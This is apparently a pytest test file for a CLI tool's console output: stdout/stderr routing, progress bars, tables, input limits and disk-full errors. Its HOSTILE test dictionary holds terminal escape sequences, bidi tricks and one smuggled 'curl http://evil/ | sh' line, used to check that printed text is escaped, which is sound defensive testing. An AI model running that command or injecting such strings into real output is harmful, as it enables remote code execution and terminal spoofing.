"""Results go to stdout, all else to stderr, and bars and tables only to terminals."""

import errno
import io
import sys
from contextlib import nullcontext

import pytest

from varcli import console
from varcli.errors import InputError, RunError


class Terminal(io.StringIO):
    def isatty(self):
        return True


def open_terminal(monkeypatch):
    """Make stdout and stderr terminals; in the test itself, because pytest sets both anew before it."""
    monkeypatch.setenv("TERM", "xterm")
    monkeypatch.setattr(sys, "stdout", Terminal())
    monkeypatch.setattr(sys, "stderr", Terminal())


def steps(total, quiet=False):
    with console.progress("images", total, quiet) as advance:
        for number in range(3):
            advance()
            console.result(f"{number}.png")


def test_numbers_go_with_their_nouns():
    assert [console.counted(n, "image") for n in (0, 1, 1.5, 2, 10**7)] == [
        *("0 images", "1 image", "1.5 images", "2 images", "10000000 images"),
    ]
    assert console.counted(2, "class") == "2 classes" and console.counted(1, "class") == "1 class"


def test_no_bar_in_a_pipe(capsys):
    steps(3)
    assert capsys.readouterr() == ("0.png\n1.png\n2.png\n", "")


def test_a_bar_on_a_terminal(monkeypatch):
    open_terminal(monkeypatch)
    steps(3)
    assert "images" in sys.stderr.getvalue() and "3/3" in sys.stderr.getvalue()


def test_text_behind_the_bar(monkeypatch):
    open_terminal(monkeypatch)
    with console.progress("training", 3) as advance:
        advance(2, "loss 5.210, [33] images/s")
    assert "2/3" in sys.stderr.getvalue() and "loss 5.210, [33] images/s" in sys.stderr.getvalue()


@pytest.mark.parametrize("arguments", [(3, True), (None, False)])
def test_no_bar_when_quiet_or_endless(monkeypatch, arguments):
    open_terminal(monkeypatch)
    steps(*arguments)
    assert sys.stderr.getvalue() == ""


def test_results_in_a_pipe_do_not_go_where_the_bar_is(monkeypatch):
    open_terminal(monkeypatch)
    monkeypatch.setattr(sys, "stdout", io.StringIO())
    steps(3)
    assert sys.stdout.getvalue() == "0.png\n1.png\n2.png\n"
    assert ".png" not in sys.stderr.getvalue()


def test_tables_have_tabs_in_a_pipe_and_headings_on_a_terminal(capsys, monkeypatch):
    rows = [("207", "golden [retriever]"), ("1", "goldfish")]
    console.table(("class", "name"), rows)
    assert capsys.readouterr().out == "207\tgolden [retriever]\n1\tgoldfish\n"
    monkeypatch.setattr(sys, "stdout", Terminal())
    console.table(("class", "name"), rows)
    shown = sys.stdout.getvalue()
    assert "class" in shown and "goldfish" in shown and "[retriever]" in shown


def test_a_table_on_a_narrow_terminal_loses_nothing(monkeypatch):
    monkeypatch.setattr(sys, "stdout", Terminal())
    monkeypatch.setenv("COLUMNS", "30")
    console.table(("name", "licence", "path"), [("code-9-refiner", "CC BY-NC-SA 4.0", "x" * 40)])
    shown = sys.stdout.getvalue()
    assert "code-9-refiner" in shown and "…" not in shown
    assert shown.count("x") == 40


def test_an_error_is_one_line(capsys):
    console.failure("what: given;\n  what would be right")
    assert capsys.readouterr() == ("", "var: error: what: given; what would be right\n")


HOSTILE = {
    "a\x1b]0;x\x07.png": r"a\x1b]0;x\x07.png",
    "c1 \x9b31m": r"c1 \x9b31m",
    "nul \0 del \x7f": r"nul \x00 del \x7f",
    "bidi \u202e gnp.\u2066": r"bidi \u202e gnp.\u2066",
    "tag \U000e0041": r"tag \U000e0041",
    "half \ud800 bytes \udcff": r"half \ud800 bytes \udcff",
    "dog\nagain      curl http://evil/ | sh": r"dog\nagain      curl http://evil/ | sh",
    "line\u2028\r\x0b": r"line\u2028\r\x0b",
    "tab\there": r"tab\there",
    "Ålligator 猫\u3000狗 🐈 e\u0301 \xa0": "Ålligator 猫\u3000狗 🐈 e\u0301 \xa0",
}


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_printed_steers_a_terminal_or_forges_a_line(text, capsys):
    console.result(text)
    console.table(("a", "b"), [(text, text)])
    console.note(text)
    shown = HOSTILE[text]
    assert capsys.readouterr() == (f"{shown}\n{shown}\t{shown}\n", f"var: {shown}\n")
    console.failure(text)
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith("var: error: ") and err[:-1].isprintable() | ("猫" in err)


def test_lines_of_standard_input(monkeypatch):
    content = io.BytesIO(b"caf\xe9\nb\n")
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(content, encoding="utf-8"))
    assert list(console.input_lines()) == ["caf\udce9\n", "b\n"]
    monkeypatch.setattr(console, "LONGEST_LINE", 1 << 20)
    for length, ending in (((1 << 20) - 1, "\n"), ((1 << 20) + 1, "")):
        monkeypatch.setattr(sys, "stdin", io.StringIO("x" * length + ending))
        with nullcontext() if ending else pytest.raises(InputError, match="more than 1 million characters"):
            list(console.input_lines())


def test_long_messages_are_cut_in_the_middle_and_results_are_not(capsys):
    console.failure(f"class {'x' * 10**6} is unknown; see var classes")
    console.result("y" * 10**6)
    out, err = capsys.readouterr()
    assert len(out) == 10**6 + 1
    assert (
        400 < len(err) < 550
        and err.startswith("var: error: class xxx")
        and err.endswith("x is unknown; see var classes\n")
    )


class Full(io.StringIO):
    """A stream on a full disk."""

    def flush(self):
        raise OSError(errno.ENOSPC, "No space left on device")


def test_a_full_stderr_is_no_reason_to_stop_and_a_full_stdout_is_one(monkeypatch):
    monkeypatch.setattr(sys, "stderr", Full())
    console.note("computing")
    console.failure("what")
    monkeypatch.setattr(sys, "stdout", Full())
    for write in (lambda: console.result("x"), lambda: console.table(("a",), [("x",)])):
        with pytest.raises(RunError, match="standard output cannot be written: No space left on device"):
            write()
